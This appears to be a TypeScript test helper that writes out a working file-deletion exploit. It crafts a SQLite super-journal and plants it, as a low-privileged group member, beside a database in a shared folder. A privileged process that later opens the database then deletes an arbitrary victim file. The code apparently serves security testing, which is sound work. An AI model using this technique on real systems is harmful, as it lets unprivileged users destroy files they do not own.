import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import Database from '../../src/sqlite/better-sqlite3.ts';

/** A member of the group of a spool's folder, who has no other right there. */
export interface Member {
  uid: number;
  gid: number;
}

/**
 * Has a member of the group put a journal beside a database in a folder of the group. Who opens the database then
 * plays it back, and as its last step SQLite removes the super-journal that it names, here the victim. What is to be
 * a lock, an empty file, is first replaced by a database of a page, since beside an empty one no journal is played back.
 */
export function plantJournal(member: Member, file: string, victim: string, isLock: boolean): void {
  if (isLock) write(member, file, smallDatabase());
  write(member, `${file}-journal`, superJournal(readFileSync(file), victim));
}

/** A rollback journal (SQLite's file format, section 3) without a page in it; pager.c, writeSuperJournal(). */
export function superJournal(database: Buffer, victim: string): Buffer {
  const pageBytes = database.readUInt16BE(16);
  const header = Buffer.alloc(SECTOR_BYTES);
  MAGIC.copy(header);
  const fields = [0, 0, database.length / pageBytes, SECTOR_BYTES, pageBytes];
  for (const [nth, field] of fields.entries()) header.writeUInt32BE(field, MAGIC.length + 4 * nth);
  const name = Buffer.from(victim);
  const sum = name.reduce((total, octet) => total + octet, 0);
  const pendingPage = 0x4000_0000 / pageBytes + 1;
  return Buffer.concat([header, u32(pendingPage), name, u32(name.length), u32(sum), MAGIC]);
}

function smallDatabase(): Buffer {
  const db = new Database(':memory:');
  db.exec('CREATE TABLE small (x)');
  const bytes = db.serialize();
  db.close();
  return bytes;
}

function write({ uid, gid }: Member, file: string, bytes: Buffer): void {
  const script = 'rm -f "$1"; cat >"$1"; chmod 660 "$1"';
  const ids = [`--reuid=${uid}`, `--regid=${gid}`, '--clear-groups', '--'];
  const { status, stderr } = spawnSync('setpriv', [...ids, 'sh', '-ec', script, 'sh', file], {
    input: bytes,
  });
  if (status !== 0) throw new Error(`the member cannot write ${file}: ${String(stderr)}`);
}

function u32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

const MAGIC = Buffer.from('d9d505f920a163d7', 'hex');
const SECTOR_BYTES = 512;
